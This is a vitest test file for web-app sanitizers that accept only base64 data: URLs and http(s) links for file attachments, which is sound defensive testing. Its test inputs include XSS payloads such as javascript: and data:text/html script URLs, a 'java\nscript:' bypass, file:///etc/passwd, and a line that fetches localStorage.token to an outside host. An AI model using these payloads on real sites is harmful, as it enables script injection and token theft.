import { describe, expect, it } from 'vitest'
import { base64DataUrl, dataUrlBlob, fileEntries, safeHttpUrl } from './files'

describe('files: context values are never links', () => {
  it('accepts base64 data: URLs only', () => {
    expect(base64DataUrl('data:application/pdf;base64,JVBERg==')).toBe('data:application/pdf;base64,JVBERg==')
    expect(base64DataUrl('data:;base64,eA==')).toBe('data:;base64,eA==')
    for (const bad of [
      'javascript:alert(1)',
      'JavaScript:alert(1)',
      ' javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'data:text/html;base64,PHNjcmlwdD4=<x>',
      'http://evil.example/x.pdf',
      'vbscript:msgbox(1)',
      42,
      null,
    ]) {
      expect(base64DataUrl(bad)).toBeUndefined()
    }
  })

  it('reads file fields without keeping anything openable that is not a data: URL', () => {
    const v = [
      { name: 'quote.pdf', size: 3, type: 'application/pdf', data_url: 'data:application/pdf;base64,cGRm' },
      { name: 'evil', data_url: 'javascript:fetch("//x/"+localStorage.token)' },
      { name: 'link', href: 'https://evil.example' },
      '01a2-att',
      'javascript:alert(1)',
      7,
    ]
    const out = fileEntries(v)
    expect(out[0]).toEqual({ name: 'quote.pdf', size: 3, type: 'application/pdf', dataUrl: 'data:application/pdf;base64,cGRm' })
    expect(out[1]).toEqual({ name: 'evil' })
    expect(out[2]).toEqual({ name: 'link' })
    expect(out[3]).toEqual({ name: '01a2-att', id: '01a2-att' })
    expect(out[4]).toEqual({ name: 'file 5' })
    expect(out[5]).toEqual({ name: 'file 6' })
    expect(fileEntries('javascript:alert(1)')).toEqual([])
  })

  it('decodes a file as bytes to save, never as a page', async () => {
    const b = dataUrlBlob('data:text/html;base64,' + btoa('<script>alert(1)</script>'))
    expect(b.type).toBe('application/octet-stream')
    expect(await b.text()).toBe('<script>alert(1)</script>')
    expect(() => dataUrlBlob('javascript:alert(1)')).toThrow()
  })

  it('links http(s) only', () => {
    expect(safeHttpUrl('https://example.com/a?b=1')).toBe('https://example.com/a?b=1')
    expect(safeHttpUrl('http://example.com')).toBe('http://example.com/')
    for (const bad of ['javascript:alert(1)', 'java\nscript:alert(1)', 'data:text/html,x', '//evil.example', '/relative', 'file:///etc/passwd', '', undefined]) {
      expect(safeHttpUrl(bad)).toBeUndefined()
    }
  })
})

describe('fileEntries of uploaded attachments', () => {
  it('keeps the id, name, size and type of an uploaded file', () => {
    const v = [{ id: 'att_0123456789abcdef0123456789abcdef', name: 'photo.jpg', size: 12, content_type: 'image/jpeg', sha256: 'x' }]
    expect(fileEntries(v)).toEqual([{ id: 'att_0123456789abcdef0123456789abcdef', name: 'photo.jpg', size: 12, type: 'image/jpeg' }])
  })
})
